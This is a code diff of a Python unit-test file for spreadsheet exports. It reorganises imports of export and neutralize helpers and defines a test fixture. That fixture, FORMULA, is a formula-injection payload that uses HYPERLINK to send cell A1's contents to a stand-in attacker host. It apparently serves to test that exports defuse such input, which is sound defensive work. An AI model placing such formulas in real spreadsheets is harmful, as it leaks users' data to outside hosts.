@@ -10,8 +10,9 @@ from decimal import Decimal
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from service.outputs.workbook import export_rows, neutralize, put_text, render_export_csv, render_export_xlsx, \
-    render_workbook
+from service.outputs.export import export_rows, render_export_csv, render_export_xlsx
+from service.outputs.sheets import neutralize, put_text
+from service.outputs.workbook import render_workbook
 from tests.unit.test_digest import CFG, DAY, YESTERDAY, at, make_cfg, model, msg, scenario, view_of, with_targets
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
